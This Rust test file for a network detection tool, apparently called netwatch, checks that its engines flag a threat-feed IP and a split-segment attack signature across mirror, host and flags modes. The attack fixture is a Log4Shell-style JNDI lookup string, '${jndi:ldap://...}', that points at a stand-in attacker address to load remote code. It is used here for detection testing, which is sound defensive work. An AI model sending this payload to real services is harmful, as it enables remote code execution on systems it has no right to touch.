//! Listed addresses and signatures: both engines tell the same of them, in each mode.

use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;

use netwatch::cli::{PlaceArgs, SettingArgs, WatchMode};
use netwatch::config::Config;
use netwatch::replay::prepare::Prepared;
use xtask::traffic::Frame;
use xtask::traffic::scenario::conversation;

use super::frames::{FIRST_NS, Owned};
use super::players::Players;

const LISTED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
const OURS: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 10);

/// An attack, in two segments of which neither has all of it.
const ATTACK: [&[u8]; 2] =
    [b"GET /?x=${jn", b"di:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"];

/// Both ways of a listed address and of an attack, and what is none of either.
fn packets() -> Vec<Owned> {
    let to_listed = conversation((OURS.into(), 40_000), (LISTED.into(), 443), &[b"hello"]);
    let from_listed = conversation((LISTED.into(), 40_001), (OURS.into(), 22), &[b"SSH-2.0-x\r\n"]);
    let attack = conversation((ATTACKER.into(), 40_002), (OURS.into(), 8080), &ATTACK);
    let sent = conversation((OURS.into(), 40_003), (ATTACKER.into(), 80), &ATTACK);
    // Nobody knows whether these are the connection's first bytes.
    let amid = conversation((ATTACKER.into(), 40_004), (OURS.into(), 8080), &ATTACK).split_off(3);
    let datagrams = [
        Frame::ipv4(OURS, LISTED).udp(5_353, 53, b"who is it").build(),
        Frame::ipv4(LISTED, OURS).udp(53, 5_353, b"nobody").build(),
        Frame::ipv4(OURS, LISTED).echo_request(1, 1).build(),
        Frame::ipv4(LISTED, OURS).echo_reply(1, 1).build(),
    ];
    let frames = [to_listed, from_listed, attack, sent, amid, datagrams.to_vec()].concat();
    // They go on into a second slot.
    (0..).zip(frames).map(|(nth, frame)| Owned::new(nth * 200_000_000, frame)).collect()
}

fn told(mode: WatchMode) -> Vec<String> {
    let feed = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("looks-{mode:?}.txt"));
    fs::write(&feed, "203.0.113.64/26 # seen before\n").unwrap();
    let settings = SettingArgs {
        map_memory: Some("32M".into()),
        feeds: vec![format!("bad={}", feed.display())],
        local: vec!["192.168.0.0/16".into()],
        ..SettingArgs::default()
    };
    let config = Config::from_settings(&settings, &PlaceArgs::default()).unwrap();
    let prepared = Prepared {
        mode,
        local: config.local().to_vec(),
        guessed: None,
        first_at_ns: Some(FIRST_NS),
        name: "looks.pcap".into(),
    };
    let mut players = Players::of(&prepared, &config);
    let case = format!("mode {mode:?}");
    for packet in packets() {
        players.packet(&case, &packet.borrowed());
    }
    let [_, slots, _] = players.finish(&case);
    assert!(slots >= 2, "{slots} slots");
    players.opened
}

#[test]
fn a_listed_address_and_an_attack_are_told_where_both_directions_count() {
    assert_eq!(
        told(WatchMode::Mirror),
        ["ioc.ip 203.0.113.66 high", "payload.match 198.51.100.9 high", "payload.match 192.168.0.10 high"]
    );
}

#[test]
fn a_listed_address_and_an_attack_are_told_where_a_host_sends() {
    assert_eq!(
        told(WatchMode::Host),
        ["ioc.ip 203.0.113.66 high", "payload.match 198.51.100.9 high", "payload.match 192.168.0.10 high"]
    );
}

#[test]
fn a_listed_address_is_told_where_flags_tell() {
    // Which connections were seen to begin is not known then.
    assert_eq!(told(WatchMode::Flags), ["ioc.ip 203.0.113.66 high"]);
}
